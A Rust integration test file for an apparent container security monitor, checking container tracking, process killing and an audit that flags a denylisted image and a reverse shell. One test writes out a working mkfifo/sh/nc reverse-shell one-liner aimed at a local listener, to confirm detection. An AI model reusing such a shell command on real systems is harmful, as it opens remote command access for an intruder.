#![expect(clippy::unwrap_used, reason = "tests")]

//! Against a real engine. `BULKHEAD_TEST_DOCKER` names its socket; it must have an image
//! `bulkhead-test` with `sh` and `sleep`. Where the kernel half would announce a cgroup, a scan does.

use super::*;
use crate::container::hierarchy;
use crate::event::{Body, Event, ProcessKey, Reason, Rung, Verdict};
use crate::finding::{Action, Detection, EnforcedBy, FindingKind, Outcome};
use crate::respond::policy::{Mode, Rules};
use std::process::Command;
use std::sync::mpsc::{Receiver, sync_channel};

const IMAGE: &str = "bulkhead-test";
const WAIT: Duration = Duration::from_secs(20);

fn socket() -> String {
    std::env::var("BULKHEAD_TEST_DOCKER").unwrap()
}

fn docker(args: &[&str]) -> String {
    let host = format!("unix://{}", socket());
    let out = Command::new("docker").arg("-H").arg(host).args(args).output().unwrap();
    assert!(out.status.success(), "docker {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// Removed whatever happens.
struct Started(String);

impl Drop for Started {
    fn drop(&mut self) {
        docker(&["rm", "-f", &self.0]);
    }
}

fn run(args: &[&str]) -> Started {
    let fixed = ["run", "-d", "--network", "none"];
    Started(docker(&[&fixed[..], args].concat()))
}

fn follow() -> (Registry, Engine, Receiver<Notice>) {
    let registry = Registry::new(hierarchy::detect().unwrap());
    let (sender, notices) = sync_channel(1024);
    let engine = start(Settings::new(socket()), registry.clone(), sender).unwrap();
    let connected = notices.recv_timeout(WAIT).unwrap();
    assert!(matches!(connected, Notice::Connected { data_root: Some(_) }), "{connected:?}");
    (registry, engine, notices)
}

/// Polls until `what` is there.
fn until<T>(registry: &Registry, mut what: impl FnMut() -> Option<T>) -> T {
    let end = std::time::Instant::now() + WAIT;
    loop {
        registry.scan();
        if let Some(found) = what() {
            return found;
        }
        assert!(std::time::Instant::now() < end, "waited in vain");
        std::thread::sleep(Duration::from_millis(2));
    }
}

#[test]
#[ignore = "needs a Docker engine: BULKHEAD_TEST_DOCKER"]
fn a_container_is_completed_renamed_and_its_culprit_killed() {
    let (registry, _engine, notices) = follow();
    let label = "bulkhead.mode=protect";
    let started = run(&["--name", "bulkhead-live", "--label", label, IMAGE, "sh", "-c", "sleep 300 & wait; sleep 301"]);
    let key = until(&registry, || registry.key_of_id(&started.0));
    let view = until(&registry, || Some(registry.view(key)).filter(|v| v.complete));
    assert_eq!((view.name.as_str(), view.image.as_str(), view.runtime.as_str()), ("bulkhead-live", IMAGE, "docker"));
    assert_eq!(view.labels["bulkhead.mode"], "protect");
    assert!(view.digest.starts_with("sha256:"));
    // A notice comes only if the cgroup was known before the metadata was complete.
    let told: Vec<Notice> = notices.try_iter().collect();
    assert!(told.iter().all(|n| *n == Notice::Completed(key)), "{told:?}");

    docker(&["rename", "bulkhead-live", "bulkhead-renamed"]);
    until(&registry, || (registry.view(key).name == "bulkhead-renamed").then_some(()));

    // Its second process is the culprit; its init survives.
    let events = crate::startup::scan(&registry, &|_, _| 0, false).unwrap();
    let inside: Vec<&Event> = events.iter().filter(|e| e.container == key).collect();
    assert_eq!(inside.len(), 2, "sh and sleep");
    let culprit = inside[1].process;
    let Body::Exec(exec) = &inside[1].body else { panic!("not an exec") };
    assert_eq!(exec.args, ["sleep", "300"]);
    let rules = Rules {
        default_mode: Mode::Monitor,
        actions: HashMap::from([(FindingKind::Miner, Action::Kill)]),
        ..Rules::default()
    };
    let detection = Detection::new(FindingKind::Miner, culprit, "test");
    let init = inside[0].process;
    let outcome = crate::respond::testing::act(&rules, &registry, inside[1], &detection, &[init]);
    assert_eq!(outcome, Outcome::Killed { by: EnforcedBy::Pidfd, processes: vec![culprit.tgid] });
    until(&registry, || std::fs::metadata(format!("/proc/{}/exe", culprit.tgid)).is_err().then_some(()));
    assert!(std::fs::metadata(format!("/proc/{}/exe", init.tgid)).is_ok(), "init was no culprit");

    // A process of the host is refused in the name of the same container.
    let own = ProcessKey { tgid: std::os::unix::process::parent_id(), start_ns: 0 };
    let event =
        Event { process: own, verdict: Verdict::Observed, reason: Reason::None, rung: Rung::None, ..inside[1].clone() };
    let outcome =
        crate::respond::testing::act(&rules, &registry, &event, &Detection::new(FindingKind::Miner, own, "test"), &[]);
    assert!(matches!(outcome, Outcome::Refused { .. }), "{outcome:?}");
}

#[test]
#[ignore = "needs a Docker engine: BULKHEAD_TEST_DOCKER"]
fn containers_from_before_and_containers_that_live_a_moment() {
    let before = run(&["--name", "bulkhead-before", IMAGE, "sleep", "300"]);
    let (registry, engine, _notices) = follow();
    let key = until(&registry, || registry.key_of_id(&before.0));
    let view = until(&registry, || Some(registry.view(key)).filter(|v| v.complete));
    assert_eq!(view.name, "bulkhead-before");

    let at_first = engine.stats().completed.load(Ordering::Relaxed);
    let mut named = 0;
    for n in 0..10 {
        let name = format!("bulkhead-short-{n}");
        let host = format!("unix://{}", socket());
        let mut child = Command::new("docker")
            .args(["-H", &host, "run", "--rm", "--network", "none", "--name", &name, IMAGE, "true"])
            .spawn()
            .unwrap();
        while child.try_wait().unwrap().is_none() {
            for change in registry.scan().iter().filter(|c| c.is_container()) {
                named += usize::from(registry.view(change.container).name == name);
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    }
    until(&registry, || (engine.stats().completed.load(Ordering::Relaxed) >= at_first + 10).then_some(()));
    assert_eq!(named, 10, "each is named when its cgroup appears: the engine announces it before");
    assert_eq!(engine.stats().inspections_dropped.load(Ordering::Relaxed), 0);
    let listed = list_once(&Settings::new(socket())).unwrap();
    assert!(listed.iter().any(|l| l.id == before.0 && l.running && l.metadata.complete));
}

/// A container made from a listed image under a mirror's name, in which a shell hangs on `nc`.
#[test]
#[ignore = "needs a Docker engine: BULKHEAD_TEST_DOCKER, and its image as mirror.local/docker123321/mysql5"]
fn an_audit_finds_the_bad_image_and_the_shell_that_is_already_up() {
    use crate::cli::audit::{Audit, EXIT_FOUND};
    use monitor_common::exec::EXEC_RELAY;
    use monitor_common::state::{CLASS_FLAG_C, CLASS_MULTICALL, CLASS_SHELL};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let shell = format!("mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc 127.0.0.1 {port} > /tmp/f");
    let image = "mirror.local/docker123321/mysql5";
    let started =
        Started(docker(&["run", "-d", "--network", "host", "--name", "bulkhead-bad", image, "sh", "-c", &shell]));
    let _held = listener.accept().unwrap();
    std::thread::sleep(Duration::from_millis(300));

    let list = crate::container::denylist::Denylist::new(&["docker123321/*"], &[]).unwrap();
    let mut judge = |event: &Event, _: &Registry| match &event.body {
        Body::Exec(e) if e.flags & EXEC_RELAY != 0 => {
            vec![Detection::new(FindingKind::ReverseShell, event.process, "a shell behind a relay")]
        }
        _ => Vec::new(),
    };
    let mut audit = Audit {
        engine: Some(Settings::new(socket())),
        denylist: &list,
        classify: &|name, _| match name {
            "sh" => CLASS_SHELL | CLASS_FLAG_C,
            "busybox" => CLASS_MULTICALL,
            _ => 0,
        },
        judge: &mut judge,
        host: false,
        json: true,
    };
    let mut out = Vec::new();
    assert_eq!(crate::cli::audit::run(&mut audit, &mut out).unwrap(), EXIT_FOUND);
    let answer: serde_json::Value = serde_json::from_slice(&out).unwrap();
    let findings: Vec<_> =
        answer["findings"].as_array().unwrap().iter().filter(|f| f["container"]["id"] == *started.0).collect();
    let kinds: Vec<_> = findings.iter().filter_map(|f| f["kind"].as_str()).collect();
    assert_eq!(kinds.len(), 2, "{answer:#}");
    assert!(kinds.contains(&"image_denylist") && kinds.contains(&"reverse_shell"), "{answer:#}");
    assert!(findings.iter().all(|f| f["container"]["name"] == "bulkhead-bad"));
}
